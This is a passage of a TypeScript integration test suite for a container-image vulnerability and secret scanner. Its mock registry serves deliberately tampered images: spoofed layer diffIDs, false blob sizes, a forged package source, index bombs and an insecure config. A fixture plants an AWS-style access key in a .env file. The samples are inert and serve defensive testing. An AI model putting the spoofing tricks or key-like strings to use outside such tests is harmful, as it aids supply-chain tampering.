import { createHash, generateKeyPairSync, type KeyObject, randomUUID, sign } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync, zstdDecompressSync } from 'node:zlib';

import { Bus, BusModule } from '@tidewaiter/bus';
import { Secret, Unavailable, unknownRun } from '@tidewaiter/domain';
import { draft, pipelineReported, registryPushed } from '@tidewaiter/events';
import { type RunningService, startService } from '@tidewaiter/runtime';
import { LayerProcesses } from '@tidewaiter/sandbox';
import {
  Advisories,
  DeadLetters,
  finalPushStates,
  Findings,
  type ImageFinding,
  ImageManifests,
  FleetMatches,
  Images,
  Incidents,
  type NewPipelineReport,
  PipelineReports,
  Provenances,
  type Push,
  PushDifferences,
  Pushes,
  Store,
  StoreModule,
} from '@tidewaiter/store';
import { minerIncident, tarArchive, throwAwayServers, type ThrowAwayServers } from '@tidewaiter/testkit';

import { start } from './main.js';

const { privateKey, publicKey } = generateKeyPairSync('ed25519');
const manifestType = 'application/vnd.oci.image.manifest.v1+json';
const indexType = 'application/vnd.oci.image.index.v1+json';

interface LayerSpec {
  content: Buffer;
  /** DiffID in the config, if it is false. */
  diffId?: string;
  sizeBytes?: number;
}

interface ImageSpec {
  /** Digests of blobs that the repository does not have. */
  missing?: string[];
  /** Creation time in the config. */
  created?: string;
  /** How it runs: `User`, `Entrypoint`. */
  config?: Record<string, unknown>;
  /** Instead of linux/amd64. */
  architecture?: string;
}

/** Registry that serves any content, even content that no honest registry would. */
class AnyRegistry {
  readonly #manifests = new Map<string, Buffer>();
  readonly #blobs = new Map<string, Buffer>();
  readonly downloads: string[] = [];
  /** Statuses for the next requests of a path that contains the text. */
  readonly failures: { part: string; status: number }[] = [];
  readonly #server: Server;

  private constructor(server: Server) {
    this.#server = server;
  }

  static async start(): Promise<AnyRegistry> {
    const server = createServer();
    const registry = new AnyRegistry(server);
    server.on('request', (request, response) => {
      const { status, body, type } = registry.#answer(request.url ?? '');
      response
        .writeHead(status, {
          'content-type': type,
          'content-length': body.length,
          ...(request.method === 'HEAD' && { 'docker-content-digest': digestOf(body) }),
        })
        .end(request.method === 'HEAD' ? undefined : body);
    });
    await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
    return registry;
  }

  get url(): string {
    return `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
  }

  async stop(): Promise<void> {
    this.#server.closeAllConnections();
    await new Promise((closed) => this.#server.close(closed));
  }

  /** Stores an index of manifests, some of them named more than once; returns its digest. */
  putIndex(
    repository: string,
    tag: string,
    digests: string[],
    platform?: { os: string; architecture: string },
  ): string {
    const index = Buffer.from(
      JSON.stringify({
        schemaVersion: 2,
        mediaType: indexType,
        manifests: digests.map((digest) => ({ mediaType: indexType, digest, size: 1, platform })),
      }),
    );
    for (const reference of [tag, digestOf(index)]) this.#manifests.set(`${repository} ${reference}`, index);
    return digestOf(index);
  }

  /** Stores an index of an image and the SBOM that BuildKit attests of it; returns its digest. */
  putAttested(repository: string, tag: string, image: string, purls: readonly string[]): string {
    const inToto = 'application/vnd.in-toto+json';
    const predicateType = 'https://spdx.dev/Document';
    const statement = Buffer.from(
      JSON.stringify({
        _type: 'https://in-toto.io/Statement/v0.1',
        predicateType,
        subject: [{ name: 'pkg:docker/app', digest: { sha256: image.slice('sha256:'.length) } }],
        predicate: {
          spdxVersion: 'SPDX-2.3',
          packages: purls.map((purl) => ({ externalRefs: [{ referenceType: 'purl', referenceLocator: purl }] })),
        },
      }),
    );
    const layer = { mediaType: inToto, digest: digestOf(statement), size: statement.length };
    const annotations = { 'in-toto.io/predicate-type': predicateType };
    const manifest = Buffer.from(
      JSON.stringify({ schemaVersion: 2, mediaType: manifestType, config: layer, layers: [{ ...layer, annotations }] }),
    );
    const attested = {
      platform: { os: 'unknown', architecture: 'unknown' },
      annotations: {
        'vnd.docker.reference.type': 'attestation-manifest',
        'vnd.docker.reference.digest': image,
      },
    };
    const index = Buffer.from(
      JSON.stringify({
        schemaVersion: 2,
        mediaType: indexType,
        manifests: [
          { mediaType: manifestType, digest: image, size: 1, platform: { os: 'linux', architecture: 'amd64' } },
          { mediaType: manifestType, digest: digestOf(manifest), size: manifest.length, ...attested },
        ],
      }),
    );
    this.#blobs.set(`${repository} ${digestOf(statement)}`, statement);
    this.#manifests.set(`${repository} ${digestOf(manifest)}`, manifest);
    for (const reference of [tag, digestOf(index)]) this.#manifests.set(`${repository} ${reference}`, index);
    return digestOf(statement);
  }

  /** Attaches an SBOM to an image, for clients without the API for referrers; returns its tag. */
  putReferrer(repository: string, image: string, purls: readonly string[]): string {
    const artifactType = 'application/vnd.cyclonedx+json';
    const sbom = Buffer.from(JSON.stringify({ bomFormat: 'CycloneDX', components: purls.map((purl) => ({ purl })) }));
    const layer = { mediaType: artifactType, digest: digestOf(sbom), size: sbom.length };
    const subject = { mediaType: manifestType, digest: image, size: 1 };
    const config = { mediaType: 'application/vnd.oci.empty.v1+json', digest: digestOf(Buffer.from('{}')), size: 2 };
    const manifest = Buffer.from(
      JSON.stringify({ schemaVersion: 2, mediaType: manifestType, artifactType, config, layers: [layer], subject }),
    );
    const referrer = { mediaType: manifestType, digest: digestOf(manifest), size: manifest.length, artifactType };
    const list = Buffer.from(JSON.stringify({ schemaVersion: 2, mediaType: indexType, manifests: [referrer] }));
    this.#blobs.set(`${repository} ${digestOf(sbom)}`, sbom);
    this.#manifests.set(`${repository} ${digestOf(manifest)}`, manifest);
    this.#manifests.set(`${repository} ${image.replace(':', '-')}`, list);
    return image.replace(':', '-');
  }

  #answer(url: string): { status: number; body: Buffer; type: string } {
    const failure = this.failures.findIndex(({ part }) => url.includes(part));
    if (failure >= 0)
      return { status: this.failures.splice(failure, 1)[0]!.status, body: Buffer.from('{}'), type: 'application/json' };
    const [, repository = '', kind = '', reference = ''] = /^\/v2\/(.+)\/(manifests|blobs)\/(.+)$/.exec(url) ?? [];
    this.downloads.push(reference);
    const found =
      kind === 'manifests'
        ? this.#manifests.get(`${repository} ${reference}`)
        : this.#blobs.get(`${repository} ${reference}`);
    const type = kind === 'manifests' ? 'application/json' : 'application/octet-stream';
    return found
      ? { status: 200, body: found, type }
      : { status: 404, body: Buffer.from('{}'), type: 'application/json' };
  }

  /** Stores an SBOM that the release key attests, as cosign would. */
  putAttestedSbom(repository: string, image: string, purls: readonly string[]): void {
    const content = envelopeOf(
      {
        predicateType: 'https://cyclonedx.org/bom',
        subject: [{ name: 'app', digest: { sha256: image.slice('sha256:'.length) } }],
        predicate: { bomFormat: 'CycloneDX', specVersion: '1.6', components: purls.map((purl) => ({ purl })) },
      },
      privateKey,
    );
    const layer = { mediaType: envelopeType, digest: digestOf(content), size: content.length };
    const manifest = Buffer.from(
      JSON.stringify({ schemaVersion: 2, mediaType: manifestType, config: layer, layers: [layer] }),
    );
    this.#blobs.set(`${repository} ${digestOf(content)}`, content);
    this.#manifests.set(`${repository} ${image.replace(':', '-')}.att`, manifest);
  }

  /** Stores a signature of an image as cosign would. */
  putSignature(repository: string, image: string): void {
    const critical = { type: 'cosign container image signature', image: { 'docker-manifest-digest': image } };
    const payload = Buffer.from(JSON.stringify({ critical }));
    const mediaType = 'application/vnd.dev.cosign.simplesigning.v1+json';
    const annotations = { 'dev.cosignproject.cosign/signature': sign(null, payload, privateKey).toString('base64') };
    const descriptor = { mediaType, digest: digestOf(payload), size: payload.length };
    const layers = [{ ...descriptor, annotations }];
    this.#blobs.set(`${repository} ${digestOf(payload)}`, payload);
    const manifest = Buffer.from(JSON.stringify({ schemaVersion: 2, config: descriptor, layers }));
    this.#manifests.set(`${repository} ${image.replace(':', '-')}.sig`, manifest);
  }

  /** Stores an image; returns its digest. */
  put(
    repository: string,
    tag: string,
    layers: LayerSpec[],
    { missing = [], created, config: run, architecture = 'amd64' }: ImageSpec = {},
  ): string {
    const blobs = layers.map(({ content, diffId, sizeBytes }) => {
      const blob = gzipSync(content);
      return { blob, digest: digestOf(blob), size: sizeBytes ?? blob.length, diffId: diffId ?? digestOf(content) };
    });
    const config = Buffer.from(
      JSON.stringify({
        architecture,
        os: 'linux',
        created,
        config: { Labels: { tag }, ...run },
        rootfs: { type: 'layers', diff_ids: blobs.map(({ diffId }) => diffId) },
      }),
    );
    const manifest = Buffer.from(
      JSON.stringify({
        schemaVersion: 2,
        mediaType: manifestType,
        config: {
          mediaType: 'application/vnd.oci.image.config.v1+json',
          digest: digestOf(config),
          size: config.length,
        },
        layers: blobs.map(({ digest, size }) => ({
          mediaType: 'application/vnd.oci.image.layer.v1.tar+gzip',
          digest,
          size,
        })),
      }),
    );
    for (const { blob, digest } of blobs)
      if (!missing.includes(digest)) this.#blobs.set(`${repository} ${digest}`, blob);
    this.#blobs.set(`${repository} ${digestOf(config)}`, config);
    for (const reference of [tag, digestOf(manifest)]) this.#manifests.set(`${repository} ${reference}`, manifest);
    return digestOf(manifest);
  }
}

const digestOf = (content: Buffer) => `sha256:${createHash('sha256').update(content).digest('hex')}`;
/**
 * Findings of images without that about the end of support of their distribution, which depends on
 * the date.
 */
async function findingsIn(...images: Parameters<Findings['of']>): Promise<ImageFinding[]> {
  const findings = await new Findings(store).of(...images);
  return findings.filter(({ id }) => id !== 'end-of-life-distribution');
}

const osRelease = tarArchive([
  { path: 'etc/os-release', content: 'ID=debian\nVERSION_ID="12"\nPRETTY_NAME="Debian 12"\n' },
]);
const stanza = (name: string, source?: string) =>
  `Package: ${name}\n${source ? `Source: ${source}\n` : ''}Status: install ok installed\nArchitecture: amd64\nVersion: 1-1\n`;
const dpkg = (name: string, source?: string) =>
  tarArchive([{ path: 'var/lib/dpkg/status', content: stanza(name, source) }]);

let servers: ThrowAwayServers<{ postgres: true; nats: true; redis: true }>;
let registry: AnyRegistry;
let scanner: RunningService;
let publisher: RunningService;
let store: Store;
let pushes: Pushes;
let home: string;
let database: string;

/** Starts a publisher as in ingest: its events are on the bus at once. */
async function startPublisher(): Promise<RunningService> {
  const url = new Secret(database);
  return startService({
    name: 'publisher',
    module: {
      module: class Publisher {},
      imports: [
        BusModule.forRoot({
          service: 'publisher',
          server: { natsUrl: new Secret(servers.nats.url) },
          deadLetters: DeadLetters,
        }),
        StoreModule.forRoot({ service: 'publisher', url, poolSize: 4, publisher: Bus }),
      ],
    },
    config: { httpHost: '127.0.0.1', httpPort: 0, logLevel: 'silent' },
    configure(app) {
      store = app.get(Store);
    },
  });
}

/** Announces a push, as ingest does; returns it when it has ended. */
async function push(
  repository: string,
  tag: string | null,
  claimedDigest: string | null = null,
  connection = 'main',
  pushedBy: string | null = null,
  attached: Pick<Push, 'artifact' | 'attachedTo'> = { artifact: 'image', attachedTo: null },
): Promise<Push> {
  const [id] = await store.transaction(async (tx) => {
    const given = {
      connection,
      repository,
      tag,
      claimedDigest,
      ...attached,
      pushedBy,
      pushedAt: null,
    };
    const ids = await pushes.add(tx, [given]);
    await tx.emit(
      draft(registryPushed, repository, {
        pushId: ids[0]!,
        connection,
        repository,
        tag,
        digest: claimedDigest,
      }),
    );
    return ids;
  });
  return ended(id!);
}

async function ended(id: string): Promise<Push> {
  const deadline = Date.now() + 60_000;
  for (;;) {
    const found = (await pushes.get(id))!;
    if (finalPushStates.some((state) => state === found.state)) return found;
    if (Date.now() > deadline) throw new Error(`the push is still ${found.state}`);
    await new Promise((resolve) => setTimeout(resolve, 25));
  }
}

async function isQueued(queue: string, key: string): Promise<boolean> {
  const [row] = await store.query("SELECT FROM job WHERE queue = $1 AND key = $2 AND state <> 'done'", [queue, key]);
  return row !== undefined;
}

async function until(what: string, isTrue: () => Promise<boolean>): Promise<void> {
  const deadline = Date.now() + 60_000;
  while (!(await isTrue())) {
    if (Date.now() > deadline) throw new Error(`${what}: not within a minute`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

/** Codes of the layers of a push that were not analyzed. */
async function unreadIn(found: Push): Promise<unknown[]> {
  const findings = await findingsIn([found.digest!], found);
  return findings.filter(({ id }) => id === 'layer-not-analyzed').map(({ evidence }) => evidence['code']);
}

const envelopeType = 'application/vnd.dsse.envelope.v1+json';

/** Statement in an envelope of DSSE, signed by a key. */
function envelopeOf(statement: object, key: KeyObject): Buffer {
  const payload = Buffer.from(JSON.stringify({ _type: 'https://in-toto.io/Statement/v0.1', ...statement }));
  const payloadType = 'application/vnd.in-toto+json';
  const message = Buffer.concat([
    Buffer.from(`DSSEv1 ${payloadType.length} ${payloadType} ${payload.length} `),
    payload,
  ]);
  const signatures = [{ sig: sign(null, message, key).toString('base64') }];
  return Buffer.from(JSON.stringify({ payloadType, payload: payload.toString('base64'), signatures }));
}

/** Stores signed provenance that a pipeline sends, as ingest does. */
async function storeProvenance(digest: string, key: KeyObject): Promise<void> {
  const source = { uri: 'git+https://git.example.com/acme/app', digest: { sha1: 'c0ffee' } };
  const content = envelopeOf(
    {
      predicateType: 'https://slsa.dev/provenance/v0.2',
      subject: [{ name: 'app', digest: { sha256: digest.slice('sha256:'.length) } }],
      predicate: { builder: { id: 'https://ci.example.com' }, materials: [source] },
    },
    key,
  );
  const about = { connection: 'ci', kind: 'provenance' as const, repository: null, tag: null };
  const stated = { format: 'in-toto', version: null, registry: null, run: unknownRun, packages: null, builder: null };
  const documentDigest = digestOf(content);
  await store.transaction(async (tx) => {
    const [report] = await new PipelineReports(store).add(tx, [
      {
        ...about,
        ...stated,
        reportKey: documentDigest,
        imageDigest: digest,
        documentDigest,
        mediaType: envelopeType,
        content,
        proven: [],
      },
    ]);
    await tx.emit(draft(pipelineReported, digest, { ...about, reportId: report!.id, digest, revision: null }));
  });
}

/** Stores a run whose token names the revision, as ingest does. */
async function storeRun(digest: string, repository: string, revision: string): Promise<void> {
  const run = { ...unknownRun, revision };
  await storeReport(digest, repository, Buffer.from(digest), { kind: 'run', format: 'run', run, proven: ['revision'] });
}

/** Stores an SBOM with these purls, as ingest does. */
async function storeSbom(digest: string, repository: string, purls: string[]): Promise<void> {
  const document = { bomFormat: 'CycloneDX', specVersion: '1.6', components: purls.map((purl) => ({ purl })) };
  const content = Buffer.from(JSON.stringify(document));
  await storeReport(digest, repository, content, { kind: 'sbom', format: 'cyclonedx', run: unknownRun, proven: [] });
}

async function storeReport(
  imageDigest: string,
  repository: string,
  content: Buffer,
  given: Pick<NewPipelineReport, 'kind' | 'format' | 'run' | 'proven'>,
): Promise<void> {
  const documentDigest = digestOf(content);
  const about = { connection: 'ci', kind: given.kind, repository, tag: null };
  const document = { documentDigest, mediaType: 'application/json', content };
  const unstated = { version: null, registry: null, packages: null, builder: null };
  await store.transaction(async (tx) => {
    const [report] = await new PipelineReports(store).add(tx, [
      { ...about, ...unstated, ...given, ...document, reportKey: documentDigest, imageDigest },
    ]);
    const { revision } = given.run;
    await tx.emit(
      draft(pipelineReported, imageDigest, { ...about, reportId: report!.id, digest: imageDigest, revision }),
    );
  });
}

async function startScanner(): Promise<RunningService> {
  return start({
    TIDEWAITER_DATABASE_URL: database,
    TIDEWAITER_NATS_URL: servers.nats.url,
    TIDEWAITER_REDIS_URL: servers.redis.url,
    TIDEWAITER_CONFIG: join(home, 'tidewaiter.yaml'),
    TIDEWAITER_HTTP_PORT: '0',
    TIDEWAITER_MAX_MATCHES: '1000',
    TIDEWAITER_FINGERPRINT_KEY: 'fingerprint-key-of-the-test',
    TIDEWAITER_LOG_LEVEL: process.env['TIDEWAITER_LOG_LEVEL'] ?? 'silent',
  });
}

describe('scanner', () => {
  beforeAll(async () => {
    [servers, registry] = await Promise.all([
      throwAwayServers({ postgres: true, nats: true, redis: true }),
      AnyRegistry.start(),
    ]);
    home = mkdtempSync(join(tmpdir(), 'scanner-'));
    writeFileSync(
      join(home, 'tidewaiter.yaml'),
      [
        `registries: [ { name: main, kind: distribution, url: "${registry.url}", allowPrivate: true } ]`,
        `signers: [ { name: release, keyFile: release.pub, repositories: ["signed-*"] } ]`,
        'signatureGrace: 0',
      ].join('\n'),
    );
    writeFileSync(join(home, 'release.pub'), publicKey.export({ type: 'spki', format: 'pem' }));
    database = await servers.postgres.createDatabase();
    scanner = await startScanner();
    publisher = await startPublisher();
    pushes = new Pushes(store);
  });

  afterAll(async () => {
    await Promise.all([scanner.stop(), publisher.stop()]);
    await Promise.all([servers.stop(), registry.stop()]);
    rmSync(home, { recursive: true });
  });

  it('reads a layer once for all images that share it', async () => {
    const base = tarArchive([{ path: 'base', content: randomUUID() }]);
    for (const tag of ['1', '2', '3'])
      registry.put('shared', tag, [{ content: osRelease }, { content: base }, { content: dpkg(`p${tag}`) }]);
    const ends = await Promise.all(['1', '2', '3'].map((tag) => push('shared', tag)));
    expect(ends.map(({ state }) => state)).toEqual(['analyzed', 'analyzed', 'analyzed']);
    expect(registry.downloads.filter((digest) => digest === digestOf(gzipSync(base)))).toHaveLength(1);
  });

  describe('misconfiguration of an image', () => {
    const insecure = { User: '', Env: ['NODE_TLS_REJECT_UNAUTHORIZED=0'], ExposedPorts: { '22/tcp': {} } };
    const found = async (digest: string) =>
      (await findingsIn([digest])).flatMap(({ kind, id }) => (kind === 'misconfiguration' ? [id] : [])).sort();
    const expected = ['image-admin-port', 'image-no-healthcheck', 'image-no-user', 'image-setuid-files'];
    let digest: string;

    it('is found in its config and its files, and counted', async () => {
      const su = tarArchive([{ path: 'usr/bin/su', content: randomUUID(), mode: 0o4755 }]);
      digest = registry.put('insecure', '1', [{ content: osRelease }, { content: su }], { config: insecure });
      const { counts } = await push('insecure', '1');
      expect(await found(digest)).toEqual([...expected, 'image-tls-verification-off']);
      expect(counts).toMatchObject({ medium: expect.any(Number), low: expect.any(Number) });
      expect(counts!.medium).toBeGreaterThanOrEqual(2);
      expect((await new Images(store).get(digest))?.notEvaluated).toEqual([]);
    });

    it('is found after an upgrade in images that were pushed before', async () => {
      await store.query(
        `UPDATE image SET config_version = NULL, analyzers_version = 'old', not_evaluated = '{misconfiguration}' WHERE digest = $1`,
        [digest],
      );
      await store.query('DELETE FROM image_finding WHERE image_digest = $1', [digest]);
      const again = await startScanner();
      await until('the config is read again', async () => (await found(digest)).length > 0);
      await until('the files are evaluated again', async () => (await found(digest)).length > expected.length);
      expect((await new Images(store).get(digest))?.notEvaluated).toEqual([]);
      await again.stop();
    });
  });

  describe('an image that claims the diffID of a good layer for another blob', () => {
    const good = tarArchive([{ path: 'usr/bin/good', content: 'good' }]);
    const bad = tarArchive([{ path: 'usr/bin/miner', content: 'bad' }]);

    it('has an unreadable layer and does not spoil the valid layer for others', async () => {
      registry.put('evil', '1', [{ content: osRelease }, { content: bad, diffId: digestOf(good) }]);
      expect(await unreadIn(await push('evil', '1'))).toEqual(['DIFF_ID_MISMATCH']);
      registry.put('honest', '1', [{ content: osRelease }, { content: good }]);
      expect(await unreadIn(await push('honest', '1'))).toEqual([]);
    });

    it('has no files of the valid layer if that was read before', async () => {
      registry.put('evil', '2', [{ content: osRelease }, { content: bad, diffId: digestOf(good) }]);
      const evil = await push('evil', '2');
      expect(await unreadIn(evil)).toEqual(['DIFF_ID_MISMATCH']);
      const files = await new ImageManifests(store, new Images(store)).get(evil.digest!);
      expect(files?.get('/usr/bin/good')).toBeNull();
    });
  });

  it('ignores a false size that an image claims for a shared blob', async () => {
    const layer = tarArchive([{ path: 'sized', content: randomUUID() }]);
    registry.put('liar', '1', [{ content: layer, sizeBytes: 7 }]);
    registry.put('truthful', '1', [{ content: layer }]);
    const [liar, truthful] = await Promise.all([push('liar', '1'), push('truthful', '1')]);
    expect(await unreadIn(truthful)).toEqual([]);
    expect(await unreadIn(liar)).toEqual(['SIZE_MISMATCH']);
  });

  describe('a layer that cannot be read', () => {
    const aws = { path: 'app/.env', content: 'AWS_ACCESS_KEY_ID=AKIAQYLPMN5HFIQR7XYA\n' };
    const noise = () => tarArchive([{ path: randomUUID(), content: randomUUID() }]);

    it.each([
      ['a corrupt tar', Buffer.alloc(10_240, 1), {}, 'CORRUPT_LAYER'],
      [
        'a tar that ends too early',
        tarArchive([{ path: 'a', content: 'a'.repeat(9_000) }]).subarray(0, 2_048),
        {},
        'TRUNCATED_LAYER',
      ],
      ['xz inside of gzip', Buffer.from('fd377a585a000000', 'hex'), {}, 'TRUNCATED_LAYER'],
    ])('leaves the findings of the other layers, and is a finding itself: %s', async (what, content, spec, code) => {
      const repository = `unread/${what.replaceAll(' ', '-')}`;
      registry.put(repository, '1', [{ content: osRelease }, { content: tarArchive([aws]) }, { content, ...spec }]);
      const found = await push(repository, '1');
      expect(found).toMatchObject({ state: 'analyzed', verdict: 'fail' });
      const findings = await findingsIn([found.digest!], found);
      expect(findings.map(({ kind, id }) => `${kind} ${id}`)).toEqual(
        expect.arrayContaining(['integrity layer-not-analyzed', 'secret aws-access-token']),
      );
      expect(await unreadIn(found)).toEqual([code]);
    });

    it('is a finding of its own repository only', async () => {
      const layer = noise();
      const blob = digestOf(gzipSync(layer));
      registry.put('a/without', '1', [{ content: layer }], { missing: [blob] });
      registry.put('b/with', '1', [{ content: layer }]);
      registry.put('c/without', '1', [{ content: layer }], { missing: [blob] });
      const [without, beside, also] = await Promise.all([
        push('a/without', '1'),
        push('b/with', '1'),
        push('c/without', '1'),
      ]);
      expect(beside.state).toBe('analyzed');
      expect(await unreadIn(beside)).toEqual([]);
      expect([without.state, also.state]).toEqual(['analyzed', 'analyzed']);
      // Layers read from one repository are known in all.
      await until('the layer is known', async () => (await unreadIn(without)).length === 0);
    });

    it('is a finding and a dead letter after the tries if it kills its reader each time; others go on', async () => {
      const poison = noise();
      const { analyze } = LayerProcesses.prototype;
      let tries = 0;
      const fragile = jest.spyOn(LayerProcesses.prototype, 'analyze').mockImplementation(function (
        this: LayerProcesses,
        ...[open, options, signal]: Parameters<typeof analyze>
      ) {
        if (options.expectedDiffId !== digestOf(poison)) return analyze.call(this, open, options, signal);
        tries += 1;
        return Promise.reject(
          new Unavailable('LAYER_READER_FAILED', 'the process that read the layer ended (SIGABRT)'),
        );
      });
      registry.put('poison', '1', [{ content: osRelease }, { content: poison }]);
      const poisoned = push('poison', '1');
      const others = ['1', '2', '3'].map((tag) => {
        registry.put('beside', tag, [{ content: osRelease }, { content: noise() }]);
        return push('beside', tag);
      });
      expect((await Promise.all(others)).map(({ state }) => state)).toEqual(['analyzed', 'analyzed', 'analyzed']);
      // Seven tries take a quarter of an hour: the next one is the last.
      const hurry = setInterval(() => {
        void store.query(
          `UPDATE job SET attempt = 6, run_at = now(), swept_at = now() - interval '1 minute'
           WHERE queue = 'layer' AND state = 'queued' AND code = 'LAYER_READER_FAILED'`,
        );
      }, 200);
      const found = await poisoned.finally(() => clearInterval(hurry));
      fragile.mockRestore();
      expect(found.state).toBe('analyzed');
      expect(await unreadIn(found)).toEqual(['LAYER_READER_FAILED']);
      expect(tries).toBeGreaterThan(1);
      expect(tries).toBeLessThan(8);
      expect(await store.query(`SELECT code FROM dead_letter WHERE code = 'LAYER_READER_FAILED'`)).toHaveLength(1);
    }, 90_000);

    it('is retried by the next push of the same digest', async () => {
      const layer = noise();
      registry.put('later', '1', [{ content: layer }], { missing: [digestOf(gzipSync(layer))] });
      expect(await unreadIn(await push('later', '1'))).toEqual(['BLOB_UNKNOWN']);
      registry.put('later', '1', [{ content: layer }]);
      const again = await push('later', '1');
      expect(await unreadIn(again)).toEqual([]);
      expect(again.verdict).not.toBe('fail');
    });
  });

  const advisory = (name: string, id = name) => ({
    id: `DSA-${id}`,
    vulnerabilityId: `CVE-${id}`,
    aliases: [],
    modified: '2026-01-01T00:00:00Z',
    published: null,
    withdrawn: null,
    title: name,
    severity: 'high' as const,
    cvss: null,
    dropped: [],
    affected: [
      {
        ecosystem: 'Debian',
        release: '12',
        name,
        ranges: [{ type: 'ECOSYSTEM' as const, events: [{ introduced: '0' }] }],
        versions: [],
        severity: null,
        unfixed: 'not-fixed' as const,
        isIncomplete: false,
      },
    ],
  });

  it('evaluates a package by its own source, despite a forged database about the same package', async () => {
    await new Advisories(store).put([advisory('vulnerable')]);
    registry.put('forged', '1', [{ content: osRelease }, { content: dpkg('libvulnerable', 'harmless') }]);
    registry.put('plain', '1', [{ content: osRelease }, { content: dpkg('libvulnerable', 'vulnerable') }]);
    expect(await push('forged', '1')).toMatchObject({ verdict: 'pass' });
    expect(await push('plain', '1')).toMatchObject({ verdict: 'fail' });
  });

  it('evaluates language packages and reports what it compared', async () => {
    const npm = { ...advisory('left-pad').affected[0]!, ecosystem: 'npm', release: null };
    const ranges = [{ type: 'SEMVER' as const, events: [{ introduced: '0' }, { fixed: '1.3.0' }] }];
    const known = { ...advisory('left-pad'), id: 'GHSA-aaaa-bbbb-cccc', vulnerabilityId: 'CVE-2026-44441' };
    await new Advisories(store).put([{ ...known, affected: [{ ...npm, ranges }] }]);
    const manifest = {
      path: 'app/node_modules/left-pad/package.json',
      content: '{"name":"left-pad","version":"1.2.0"}',
    };
    registry.put('node', '1', [
      { content: osRelease },
      { content: dpkg('harmless') },
      { content: tarArchive([manifest]) },
    ]);
    const { digest, verdict } = await push('node', '1');
    expect(verdict).toBe('fail');
    const findings = await new Findings(store).of([digest!]);
    expect(findings.filter(({ kind }) => kind === 'vulnerability')).toMatchObject([
      {
        id: 'CVE-2026-44441',
        packageName: 'left-pad',
        path: manifest.path,
        fix: { state: 'fixed', version: '1.3.0' },
        evidence: {
          advisory: known.id,
          source: 'npm',
          comparedName: 'left-pad',
          comparedVersion: '1.2.0',
          range: '< 1.3.0',
          severities: { GHSA: 'high' },
        },
      },
    ]);
  });

  it('reads a layer from any repository that has it', async () => {
    const layer = tarArchive([{ path: 'rare', content: randomUUID() }]);
    registry.put('without', '1', [{ content: layer }], { missing: [digestOf(gzipSync(layer))] });
    const without = await push('without', '1');
    expect(without).toMatchObject({ state: 'analyzed', verdict: 'fail' });
    expect(await unreadIn(without)).toEqual(['BLOB_UNKNOWN']);
    registry.put('with', '1', [{ content: layer }]);
    expect(await unreadIn(await push('with', '1'))).toEqual([]);
    await until('the verdict follows', async () => (await pushes.get(without.id))?.verdict !== 'fail');
    expect(await unreadIn(without)).toEqual([]);
  });

  it('retries after a transient failure of the registry', async () => {
    const layer = tarArchive([{ path: 'flaky', content: randomUUID() }]);
    registry.put('flaky', '1', [{ content: layer }]);
    registry.failures.push({ part: 'flaky/manifests', status: 503 }, { part: digestOf(gzipSync(layer)), status: 500 });
    expect(await push('flaky', '1')).toMatchObject({ state: 'analyzed' });
  });

  describe('a push that the registry refuses', () => {
    const redriven = async ({ id }: Push, letterSubject: string) => {
      const letters = new DeadLetters(store);
      const { items } = await letters.list({ limit: 10 });
      await letters.redrive(items.find(({ subject }) => subject.includes(letterSubject))!.id);
      // The next sweep takes it, not one in ten seconds.
      await store.query(`UPDATE job SET swept_at = '-infinity' WHERE state = 'queued'`);
      const deadline = Date.now() + 60_000;
      for (;;) {
        const found = (await pushes.get(id))!;
        if (found.state === 'analyzed') return found;
        if (Date.now() > deadline) throw new Error('it was not tried again');
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
    };

    it('fails at once and continues when it is retried', async () => {
      registry.put('locked', '1', [{ content: osRelease }]);
      registry.failures.push({ part: 'locked/manifests', status: 403 });
      const locked = await push('locked', '1');
      expect(locked).toMatchObject({ state: 'dead-lettered', code: 'REGISTRY_FORBIDDEN' });
      await redriven(locked, locked.id);
    });

    it('gets a new verdict after the refused layer is retried, with its original origin', async () => {
      const layer = tarArchive([{ path: 'locked', content: randomUUID() }]);
      const blob = digestOf(gzipSync(layer));
      const digest = registry.put('locked-layer', '1', [{ content: layer }]);
      registry.failures.push({ part: blob, status: 403 });
      const locked = await push('locked-layer', '1');
      expect(locked).toMatchObject({ state: 'analyzed', verdict: 'fail', digest });
      expect(await unreadIn(locked)).toEqual(['REGISTRY_FORBIDDEN']);
      expect(await redriven(locked, blob)).toMatchObject({ digest });
      await until('the verdict follows', async () => (await pushes.get(locked.id))?.verdict !== 'fail');
    });

    it('is not refused for a registry that tidewaiter.yaml lacks', async () => {
      expect(await push('app', '1', null, 'gone')).toMatchObject({ state: 'dead-lettered', code: 'REGISTRY_UNKNOWN' });
    });
  });

  describe('an index', () => {
    const image = (tag: string) => registry.put('index', tag, [{ content: osRelease }]);

    it('that names one image a thousand times is that image, fetched once', async () => {
      const digest = image('one');
      const inner = registry.putIndex(
        'index',
        'inner',
        Array.from({ length: 1_000 }, () => digest),
      );
      registry.putIndex('index', 'repeating', [...Array.from({ length: 999 }, () => inner), digest]);
      const { id, state } = await push('index', 'repeating');
      expect(state).toBe('analyzed');
      expect((await new Images(store).ofPush(id)).map((each) => each.digest)).toEqual([digest]);
      expect(registry.downloads.filter((each) => each === digest || each === inner)).toHaveLength(2);
    });

    it('is refused if it has more images than the limit', async () => {
      registry.putIndex(
        'index',
        'many',
        Array.from({ length: 33 }, (_, number) => image(`many-${number}`)),
      );
      expect(await push('index', 'many')).toMatchObject({
        state: 'refused',
        code: 'LIMIT_EXCEEDED',
        reason: 'the index holds more than 32 manifests to read',
      });
    });
  });

  it('refuses an image whose layers have more entries together than it may merge', async () => {
    const files = Array.from({ length: 7_000 }, (_, index) => ({ path: `data/${index}`, content: '' }));
    const layer = { content: tarArchive(files) };
    registry.put('entries', 'many', Array(400).fill(layer));
    registry.put('entries', 'some', Array(300).fill(layer));
    expect(await push('entries', 'many')).toMatchObject({
      state: 'refused',
      code: 'LIMIT_EXCEEDED',
      reason: 'the layers have more than 2500000 entries together',
    });
    expect(await push('entries', 'some')).toMatchObject({ state: 'analyzed' });
    // Millions of entries are merged in turns with other suites.
  }, 300_000);

  describe('a refused push', () => {
    const refusals = async (id: string) =>
